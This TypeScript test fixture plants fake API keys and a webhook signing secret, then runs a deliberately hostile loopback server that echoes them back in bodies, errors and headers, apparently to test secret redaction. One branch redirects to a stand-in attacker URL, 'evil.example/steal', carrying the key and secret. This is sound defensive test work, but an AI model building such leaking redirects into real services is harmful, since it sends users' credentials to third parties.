import { randomBytes, randomUUID } from 'node:crypto';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';

/** Secrets planted for the redaction test: three API keys and the signing secret the target hands out. */
export interface PlantedSecrets {
  readonly growth: string;
  readonly starter: string;
  readonly rateLimit: string;
  readonly signingSecret: string;
}

/** Fresh secrets, each unlike any ordinary text. */
export function plantSecrets(): PlantedSecrets {
  const hex = (n: number): string => randomBytes(n).toString('hex');
  return {
    growth: `sk_live_PLANTEDgrowth${hex(12)}`,
    starter: `sk_live_PLANTEDstarter${hex(12)}`,
    rateLimit: `sk_live_PLANTEDrate${hex(12)}`,
    signingSecret: `whsec_${hex(32)}`,
  };
}

/**
 * A hostile loopback target: GET /v1/user/me is healthy (so the run gets past the connection gate), everything
 * else echoes the caller's key and the signing secret back in JSON bodies, plain-text 500 errors, headers and
 * redirect locations.
 */
export async function startEchoTarget(secrets: PlantedSecrets): Promise<{ url: string; close(): Promise<void> }> {
  let n = 0;
  const server = createServer((req, res) => {
    req.resume();
    req.on('end', () => {
      const key = String(req.headers['x-api-key'] ?? '');
      const echo = {
        'x-echo-key': key,
        authorization: `Bearer ${key}`,
        'service-signature': `t=1,v1=${secrets.signingSecret}`,
        'webhook-signature': `v1,${secrets.signingSecret}`,
      };
      const path = (req.url ?? '/').split('?')[0] ?? '/';
      if (path === '/v1/user/me') {
        res.writeHead(200, { 'content-type': 'application/json', ...echo });
        res.end(JSON.stringify({ id: randomUUID(), email: 'dev@example.com', name: 'Dev', workspace_id: randomUUID(), created_at: new Date().toISOString() }));
        return;
      }
      n += 1;
      if (req.method === 'POST' && path === '/v1/webhooks') {
        res.writeHead(201, { 'content-type': 'application/json', ...echo });
        res.end(
          JSON.stringify({
            id: randomUUID(),
            url: `https://x.example/?k=${key}`,
            events: ['message.sent'],
            signing_secret: secrets.signingSecret,
            note: `secret ${secrets.signingSecret} for key ${key}`,
          }),
        );
        return;
      }
      switch (n % 4) {
        case 0:
          res.writeHead(500, { 'content-type': 'text/plain', ...echo });
          res.end(`internal error: key ${key} is not valid; expected signature secret ${secrets.signingSecret}; headers ${JSON.stringify(req.headers)}`);
          return;
        case 1:
          res.writeHead(400, { 'content-type': 'application/json', ...echo });
          res.end(
            JSON.stringify({
              success: false,
              error: 'validation_error',
              message: `bad request from ${key}`,
              headers: req.headers,
              api_key: key,
              secret: secrets.signingSecret,
            }),
          );
          return;
        case 2:
          res.writeHead(302, { location: `https://evil.example/steal?key=${key}&secret=${secrets.signingSecret}`, ...echo });
          res.end();
          return;
        default:
          res.writeHead(200, { 'content-type': 'application/json', ...echo });
          res.end(
            JSON.stringify({
              id: key,
              to: key,
              from: secrets.signingSecret,
              message: `echo ${key}`,
              status: 'queued',
              direction: 'outbound',
              created_at: 'not a date',
            }),
          );
      }
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    close: () =>
      new Promise<void>((resolve) => {
        server.closeAllConnections();
        server.close(() => resolve());
      }),
  };
}
